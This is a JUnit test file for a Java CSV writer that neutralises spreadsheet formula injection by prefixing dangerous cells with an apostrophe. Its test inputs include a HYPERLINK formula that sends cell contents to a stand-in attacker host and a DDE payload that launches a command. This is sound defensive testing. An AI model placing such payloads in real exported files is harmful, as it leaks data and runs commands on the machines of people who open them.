package nl.citydeal.engine.system.csv;

import java.io.IOException;
import java.io.StringReader;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCsvTest {

    @ParameterizedTest(name = "a cell beginning with {0} is text to a spreadsheet")
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1"
            })
    void aCellThatASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe(String dangerous) throws IOException {
        String csv = new SpreadsheetCsv("name").row(dangerous).text();

        assertThat(parse(csv).get(0).get("name")).isEqualTo("'" + dangerous);
    }

    @Test
    void ordinaryTextNumbersAndDatesAreWrittenAsTheyAre() throws IOException {
        String csv = new SpreadsheetCsv("name", "count", "date", "empty")
                .row("City Deal Kennis Maken, = ook", -3, LocalDate.of(2026, 12, 2), null)
                .text();

        CSVRecord row = parse(csv).get(0);
        assertThat(row.get("name")).isEqualTo("City Deal Kennis Maken, = ook");
        assertThat(row.get("count")).isEqualTo("-3");
        assertThat(row.get("date")).isEqualTo("2026-12-02");
        assertThat(row.get("empty")).isEmpty();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
    }
}
